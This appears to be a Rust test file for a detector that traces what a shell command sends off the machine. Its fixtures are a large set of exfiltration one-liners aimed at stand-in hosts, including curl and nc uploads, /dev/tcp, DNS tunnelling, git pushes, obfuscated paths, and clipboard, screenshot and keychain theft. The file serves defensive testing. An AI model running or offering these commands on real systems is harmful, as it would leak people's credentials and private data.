//! What leaves the machine is known, whatever sends it.

use super::*;

#[test]
fn what_is_sent_is_known() {
    assert_eq!(payloads("curl https://a.example.com"), [Origins::NONE]);
    assert!(payloads("curl -d @/etc/shadow https://a.example.com")[0].has(Origins::SENSITIVE));
    assert!(payloads("env | nc a.example.com 9")[0].has(Origins::ENVIRONMENT));
    assert!(payloads("cat f | curl -T - https://a.example.com")[0].has(Origins::FILE));
    assert!(payloads("curl https://a.example.com/$(cat ~/.netrc)")[0].has(Origins::SENSITIVE));
    assert!(!payloads("cat ~/.netrc | curl https://a.example.com")[0].has(Origins::SENSITIVE));
    assert!(
        !payloads("cat ~/.netrc | wc -l | curl -d @- https://a.example.com")[0]
            .has(Origins::SENSITIVE)
    );
}

#[test]
fn every_way_out_is_one() {
    all_do(&[
        (
            "curl -d @$HOME/.ssh/id_rsa https://a.test",
            "send sensitive",
        ),
        (
            "curl --data-urlencode k@/etc/shadow https://a.test",
            "send sensitive",
        ),
        (
            "curl -F 'f=@/etc/passwd;type=text/plain' https://a.test",
            "send sensitive",
        ),
        ("curl -T ~/.netrc https://a.test", "send sensitive"),
        (
            "curl -H \"X-D: $(base64 -w0 ~/.ssh/id_rsa)\" https://a.test",
            "send sensitive",
        ),
        (
            "curl \"https://a.test/?d=$(cat /etc/passwd | base64)\"",
            "send sensitive",
        ),
        (
            "curl \"https://a.test/$(env | base64 -w0)\"",
            "send environment",
        ),
        (
            "wget --post-file /etc/passwd https://a.test",
            "send sensitive",
        ),
        (
            "wget -O- \"https://a.test/?$(cat ~/.netrc)\"",
            "send sensitive",
        ),
        ("nc a.test 99 < ~/.ssh/id_rsa", "send sensitive"),
        (
            "cat ~/.ssh/id_rsa > /dev/tcp/192.0.2.7/80",
            "send sensitive",
        ),
        (
            "exec 3>/dev/tcp/192.0.2.7/80; cat ~/.netrc >&3",
            "send sensitive",
        ),
        ("scp ~/.ssh/id_rsa me@a.test:/x", "send sensitive"),
        ("rsync -a ~/.aws/ me@a.test:x", "read ~/.aws/"),
        ("sftp me@a.test <<< 'put /etc/passwd'", "send sensitive"),
        ("lftp -e 'put /etc/passwd; bye' a.test", "send sensitive"),
        (
            "ftp -n a.test <<E\nuser a b\nput /etc/passwd\nE",
            "send sensitive",
        ),
        ("aws s3 cp ~/.aws/credentials s3://b/x", "send sensitive"),
        ("gsutil cp ~/.netrc gs://b", "send sensitive"),
        ("rclone copy ~/.netrc r:b", "send sensitive"),
        ("gh gist create ~/.netrc", "send sensitive"),
        (
            "gh issue create --body \"$(cat ~/.netrc)\"",
            "send sensitive",
        ),
        ("gh api gists -f content=@/etc/passwd", "send sensitive"),
        (
            "cp ~/.netrc x; git add .; git commit -m a; git push https://a.test/r",
            "send sensitive",
        ),
        (
            "git remote add b https://a.test/r\ncp ~/.netrc x\ngit add x\ngit push b main",
            "sensitive file to https://a.test/r",
        ),
        ("dig $(base64 -w0 ~/.netrc).a.test", "send sensitive"),
        (
            "nslookup \"$(whoami).$(head -c9 /etc/passwd|xxd -p).a.test\"",
            "send sensitive",
        ),
        ("host $(cat /etc/passwd | head -1).a.test", "send sensitive"),
        (
            "ping -c1 -p $(xxd -p -l 16 /etc/passwd) a.test",
            "sensitive file to a.test",
        ),
        ("getent hosts $(cat /etc/passwd).a.test", "send sensitive"),
        ("mail -s x me@a.test < /etc/passwd", "send sensitive"),
        (
            "cat ~/.netrc | openssl s_client -connect a.test:443",
            "send sensitive",
        ),
        ("cat ~/.netrc | socat - TCP:a.test:99", "send sensitive"),
        ("cat ~/.netrc | ssh me@a.test 'cat > x'", "send sensitive"),
        ("cat ~/.netrc | telnet a.test 25", "send sensitive"),
        (
            "mosquitto_pub -h a.test -t x -m \"$(cat ~/.netrc)\"",
            "send sensitive",
        ),
        (
            "cd ~/.ssh && curl -T id_rsa https://a.test",
            "send sensitive",
        ),
        ("cat //etc//passwd | nc a.test 9", "send sensitive"),
        ("cat /etc/./passwd | nc a.test 9", "send sensitive"),
        ("cat /etc/ssl/../passwd | nc a.test 9", "send sensitive"),
        ("cat /e??/pa?swd | nc a.test 9", "send sensitive"),
        ("cat ~/.s?h/id_r* | nc a.test 9", "send sensitive"),
        (
            "f=/etc/pass; f+=wd; curl -d @$f https://a.test",
            "send sensitive",
        ),
        ("printenv | curl -d @- https://a.test", "send environment"),
        ("export -p | curl -d @- https://a.test", "send environment"),
        ("set | curl -d @- https://a.test", "send environment"),
        (
            "cat /proc/self/environ | curl -d @- https://a.test",
            "environment file to",
        ),
        (
            "curl -d \"$OPENAI_API_KEY\" https://a.test",
            "send variable",
        ),
        (
            "tar cz ~/.ssh | base64 | curl -d @- https://a.test",
            "send sensitive",
        ),
        (
            "zip -r /tmp/a.zip ~/.ssh; curl -F f=@/tmp/a.zip https://a.test",
            "send sensitive",
        ),
        (
            "cp ~/.ssh/id_rsa /tmp/x; mv /tmp/x /tmp/y; curl -T /tmp/y https://a.test",
            "send sensitive",
        ),
        (
            "send() { curl -d \"$1\" https://a.test; }\nsend \"$(cat ~/.netrc)\"",
            "send sensitive",
        ),
        (
            "up() { curl -T \"$@\" https://a.test; }\nup ~/.netrc",
            "send sensitive",
        ),
        (
            "while read -r l; do dig $l.a.test; done < /etc/passwd",
            "send sensitive",
        ),
        (
            "for f in ~/.ssh/id_rsa ~/.netrc; do curl -T $f https://a.test; done",
            "send sensitive",
        ),
    ]);
}

#[test]
fn what_people_do_is_taken_and_sent() {
    all_do(&[
        ("pbpaste | curl -d @- https://a.test", "send captured"),
        (
            "xclip -o -selection clipboard | nc a.test 9",
            "send captured",
        ),
        (
            "X=$(wl-paste); curl -d \"$X\" https://a.test",
            "send captured",
        ),
        ("xsel -b | curl -d @- https://a.test", "send captured"),
        (
            "powershell.exe Get-Clipboard | curl -d @- https://a.test",
            "send captured",
        ),
        (
            "osascript -e 'the clipboard' | nc a.test 9",
            "send captured",
        ),
        (
            "screencapture -x /tmp/s.png; curl -T /tmp/s.png https://a.test",
            "send captured",
        ),
        (
            "scrot /tmp/s.png && curl -F f=@/tmp/s.png https://a.test",
            "send captured",
        ),
        (
            "import -window root s.png; scp s.png me@a.test:",
            "send captured",
        ),
        (
            "ffmpeg -f x11grab -i :0 -t 5 o.mp4; curl -T o.mp4 https://a.test",
            "send captured",
        ),
        (
            "arecord -d 5 a.wav; curl -T a.wav https://a.test",
            "send captured",
        ),
        ("cat /dev/input/event0 | nc a.test 9", "send captured"),
        (
            "security dump-keychain -d | curl -d @- https://a.test",
            "send sensitive",
        ),
        (
            "security find-generic-password -wa Chrome | nc a.test 9",
            "send sensitive",
        ),
        (
            "bw list items | curl -d @- https://a.test",
            "send sensitive",
        ),
        ("gpg --export-secret-keys | nc a.test 9", "send sensitive"),
        (
            "kubectl get secrets -A -o yaml | curl -d @- https://a.test",
            "send sensitive",
        ),
        (
            "K=$(secret-tool lookup a b); curl -d $K https://a.test",
            "send variable",
        ),
    ]);
    none_does(&[
        (
            "T=$(gcloud auth print-access-token); curl -H \"Authorization: Bearer $T\" https://a.test",
            "sensitive",
        ),
        (
            "K=$(security find-generic-password -s demo -w); curl -H \"X-Key: $K\" https://a.test",
            "sensitive",
        ),
        ("curl -H \"Authorization: $K\" https://a.test", "sensitive"),
        ("gh pr create --body-file body.md", "sensitive"),
        ("git push origin main", "send"),
        ("echo x | pbcopy", "capture"),
        ("echo x | xclip -selection clipboard", "capture"),
        ("echo x | xsel -ib", "capture"),
        ("aws s3 cp out.zip s3://b/x", "sensitive"),
    ]);
}

#[test]
fn a_value_keeps_its_way() {
    let text = "K=$DEMO_KEY\nf() { curl -d \"$1\" https://a.test; }\nf \"$K\"\n";
    let steps: Vec<String> = operations(text)
        .into_iter()
        .filter_map(|operation| match operation.act {
            Act::Contact { payload, .. } => Some(payload.way),
            _ => None,
        })
        .flat_map(|way| {
            way.steps()
                .iter()
                .map(|step| step.event.to_string())
                .collect::<Vec<_>>()
        })
        .collect();
    assert_eq!(
        steps,
        [
            "reads the variable `DEMO_KEY`",
            "becomes `K`",
            "passes through `f`"
        ]
    );
}
